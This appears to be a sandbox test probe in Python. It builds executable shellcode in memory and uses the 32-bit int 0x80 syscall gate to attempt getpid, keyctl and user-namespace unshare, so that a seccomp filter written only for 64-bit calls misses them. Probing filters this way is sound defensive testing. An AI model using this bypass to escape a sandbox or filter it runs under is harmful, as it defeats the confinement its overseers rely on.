import sys

sys.path.insert(0, "/inputs")
from trying import attempt
# The calls of 32-bit programs have other numbers: a filter for 64 bits takes them for others.
import ctypes
import mmap
import struct

GETPID, UNSHARE, KEYCTL, USER = 20, 310, 288, 0x10000000
EXECUTABLE = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC


def int_0x80(number, argument):
    code = b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", argument)
    code += b"\xcd\x80\x5b\xc3"  # int 0x80; pop rbx; ret
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=EXECUTABLE)
    page.write(code)
    got = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if got < 0:
        raise OSError(-got, "int 0x80")
    return got


attempt("getpid", lambda: int_0x80(GETPID, 0))
attempt("keyctl", lambda: int_0x80(KEYCTL, 0))
attempt("unshare", lambda: int_0x80(UNSHARE, USER))
